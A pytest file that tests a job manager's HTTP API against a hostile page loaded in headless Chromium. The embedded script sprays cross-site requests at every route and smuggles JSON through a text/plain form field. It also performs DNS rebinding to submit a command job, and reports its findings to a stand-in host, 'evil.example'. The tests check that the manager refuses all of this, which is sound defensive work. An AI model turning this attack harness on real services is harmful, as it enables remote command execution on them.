"""A page of another site, in a real browser on the machine of the server: it reaches every route, by
forms, fetch, frames, beacons and after its name was pointed at us, and nothing comes of it."""
import json
import shutil
import socket
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socketserver import StreamRequestHandler, ThreadingTCPServer

import pytest

from test_door import routes

CHROMIUM = shutil.which("chromium")
QUIET = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--host-resolver-rules=MAP evil.example 127.0.0.1"]

PAGE = """<!doctype html><title>evil</title><body><script>
const {manager, routes, body, report} = %s
const seen = {read: [], sent: 0, rebound: {}}

async function take(url, options) {
    seen.sent++
    try {
        const r = await fetch(url, {...options, signal: AbortSignal.timeout(5000)})
        if (r.type !== "opaque") {
            seen.read.push(url + " " + r.status + " " + (await r.text()).slice(0, 100))
        }
    } catch (e) { /* as it should be */ }
}

function form(url, type) {
    const [f, i, to] = ["form", "input", "iframe"].map(e => document.createElement(e))
    to.name = "f" + seen.sent++
    document.body.append(to, f)
    Object.assign(f, {action: url, method: "post", enctype: type, target: to.name})
    i.name = body.slice(0, -1) + ',"labels":{"x":"' /* and "=" between the two */
    i.value = '"}}'
    f.append(i)
    const loaded = new Promise(done => { to.onload = done; setTimeout(done, 5000) })
    f.submit()
    return loaded
}

function element(name, url) {
    const e = document.createElement(name)
    seen.sent++
    const over = new Promise(done => { e.onload = e.onerror = done; setTimeout(done, 5000) })
    e.src = url
    document.body.append(e)
    return over
}

async function run() {
    for (const [method, path] of routes) {
        const has = method === "POST" || method === "PATCH"
        const send = has ? {body, headers: {"Content-Type": "text/plain"}} : {}
        await take(manager + path, {method, mode: "cors", ...send})
        await take(manager + path, {method, mode: "cors", credentials: "include", ...(has ? {body} : {})})
        if (method === "GET" || method === "POST") {
            await take(manager + path, {method, mode: "no-cors", credentials: "include", ...send})
        }
        if (method === "POST") {
            await form(manager + path, "text/plain")
            navigator.sendBeacon(manager + path, body)
        } else if (method === "GET" && !path.includes("log")) {
            await Promise.all(["iframe", "img", "script"].map(e => element(e, manager + path)))
        }
    }
    await fetch("/rebind", {cache: "no-store"})
    for (const [method, path] of routes) {
        const has = method === "POST" || method === "PATCH"
        try {
            const signal = AbortSignal.timeout(5000)
            const r = await fetch(path, {method, cache: "no-store", signal, ...(has ? {body} : {})})
            seen.rebound[method + " " + path] = r.status
        } catch (e) { seen.rebound[method + " " + path] = String(e) }
    }
    await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(seen)})
}
run()
</script>"""


class Switch(StreamRequestHandler):
    """What evil.example is: its own server, and then the manager."""

    def handle(self):
        with socket.create_connection(self.server.to) as there:
            back = threading.Thread(target=self.copy, args=(there, self.connection), daemon=True)
            back.start()
            self.copy(self.connection, there)
            back.join()

    @staticmethod
    def copy(source, to):
        try:
            while part := source.recv(65536):
                to.sendall(part)
            to.shutdown(socket.SHUT_WR)
        except OSError:
            pass


class Evil(BaseHTTPRequestHandler):
    """One request a connection, so that the next one goes where the name points by then."""

    def log_message(self, *_):
        pass

    def answer(self, body=b""):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path == "/rebind":
            self.server.switch.to = self.server.manager
        self.answer(self.server.page if self.path == "/page" else b"")

    def do_POST(self):
        self.server.seen = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.answer()
        self.server.over.set()


def browse(sje, mark, tmp_path, switch):
    """What the page says that it got; the name evil.example is the manager's from some moment on."""
    manager = sje.url.removeprefix("http://").split(":")
    command = json.dumps({"jobType": "Command", "command": ["touch", str(mark)]})
    evil = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    evil.switch, evil.manager, evil.over = switch, (manager[0], int(manager[1])), threading.Event()
    switch.to = evil.server_address
    name = f"http://evil.example:{switch.server_address[1]}"
    evil.page = (PAGE % json.dumps({
        "manager": sje.url, "body": command, "report": f"http://evil.example:{evil.server_address[1]}/",
        "routes": [r for r in routes() if r[0] != "OPTIONS"]})).encode()
    for server in (evil, switch):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    browser = subprocess.Popen([CHROMIUM, *QUIET, f"--user-data-dir={tmp_path / 'profile'}", name + "/page"],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        assert evil.over.wait(150), "the page did not come to its end"
    finally:
        browser.terminate()
        browser.wait()
        for server in (evil, switch):
            server.shutdown()
            server.server_close()
    return evil.seen


@pytest.fixture
def switch():
    server = ThreadingTCPServer(("127.0.0.1", 0), Switch, bind_and_activate=True)
    server.daemon_threads = True
    return server


def state(sje):
    config = sje.get("/mgmt/config").json()
    workers = [(w["workerId"], w["state"]) for w in sje.get("/mgmt/workers").json()["workers"]]
    return sje.get("/tasks").json()["tasks"], config, workers, [q["paused"] for q in sje.get("/mgmt/queues").json()["queues"]]


def door(sje):
    return sum(float(line.rsplit(" ", 1)[1]) for line in sje.get("/metrics").text.splitlines()
               if line.startswith('sje_http_refused_total{reason="door"}'))


def test_a_page_of_another_site_gets_nothing(own, tmp_path, switch):
    sje = own()
    mark = tmp_path / "ran"
    before = state(sje)
    seen = browse(sje, mark, tmp_path, switch)
    assert seen["sent"] > 100 and seen["read"] == []
    assert state(sje) == before and not mark.exists()
    assert door(sje) > seen["sent"] / 2  # a preflight stands for what is not sent after it
    assert len(seen["rebound"]) == len(list(routes())) - 1
    assert set(seen["rebound"].values()) == {403}, seen["rebound"]


def test_it_would_where_the_name_is_one_of_ours(own, tmp_path, switch):
    """The same page does reach us: it is the name that keeps it out."""
    sje = own(SJE_API_HOSTS=f"evil.example:{switch.server_address[1]}")
    seen = browse(sje, tmp_path / "ran", tmp_path, switch)
    assert seen["rebound"]["POST /task"] == 202 and seen["rebound"]["GET /mgmt/config"] == 200
    assert len(sje.get("/tasks").json()["tasks"]) >= 1
